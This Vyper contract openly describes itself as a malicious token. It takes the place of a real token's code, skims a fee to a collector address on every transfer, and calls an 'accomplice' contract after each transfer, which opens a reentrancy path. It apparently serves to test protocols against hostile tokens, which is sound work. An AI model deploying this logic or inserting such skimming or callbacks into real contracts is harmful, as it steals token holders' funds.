# pragma version ==0.4.3
# pragma evm-version cancun
"""
@title A token gone bad: the real token's storage and code, with a twist on every transfer
@notice Its code is put in the place of a real token's, whose own code has been copied to another address.
"""

interface Accomplice:
    def strike(): nonpayable

REAL: immutable(address)
ACCOMPLICE: immutable(address)
COLLECTOR: immutable(address)
FEE_BPS: immutable(uint256)
SILENT: immutable(bool)


@deploy
def __init__(real: address, accomplice: address, collector: address, fee_bps: uint256, silent: bool):
    REAL = real
    ACCOMPLICE = accomplice
    COLLECTOR = collector
    FEE_BPS = fee_bps
    SILENT = silent


@external
@raw_return
def transfer(to: address, amount: uint256) -> Bytes[32]:
    fee: uint256 = amount * FEE_BPS // 10_000
    raw_call(REAL, abi_encode(to, amount - fee, method_id=method_id("transfer(address,uint256)")), is_delegate_call=True)
    if fee > 0:
        raw_call(REAL, abi_encode(COLLECTOR, fee, method_id=method_id("transfer(address,uint256)")), is_delegate_call=True)
    return self._done()


@external
@raw_return
def transferFrom(owner: address, to: address, amount: uint256) -> Bytes[32]:
    fee: uint256 = amount * FEE_BPS // 10_000
    raw_call(
        REAL,
        abi_encode(owner, to, amount - fee, method_id=method_id("transferFrom(address,address,uint256)")),
        is_delegate_call=True,
    )
    if fee > 0:
        raw_call(
            REAL,
            abi_encode(owner, COLLECTOR, fee, method_id=method_id("transferFrom(address,address,uint256)")),
            is_delegate_call=True,
        )
    return self._done()


@external
@raw_return
def approve(spender: address, amount: uint256) -> Bytes[32]:
    """
    @notice As the most used dollar does: an allowance that stands cannot be changed but to zero.
    """
    if SILENT and amount > 0:
        standing: Bytes[32] = raw_call(
            REAL,
            abi_encode(msg.sender, spender, method_id=method_id("allowance(address,address)")),
            max_outsize=32,
            is_delegate_call=True,
        )
        assert convert(standing, uint256) == 0, "first to zero"
    raw_call(REAL, abi_encode(spender, amount, method_id=method_id("approve(address,uint256)")), is_delegate_call=True)
    return self._done()


@external
@payable
@raw_return
def __default__() -> Bytes[1024]:
    return raw_call(REAL, msg.data, max_outsize=1024, is_delegate_call=True)


@internal
def _done() -> Bytes[32]:
    if ACCOMPLICE != empty(address):
        extcall Accomplice(ACCOMPLICE).strike()
    if SILENT:
        return b""
    return abi_encode(True)
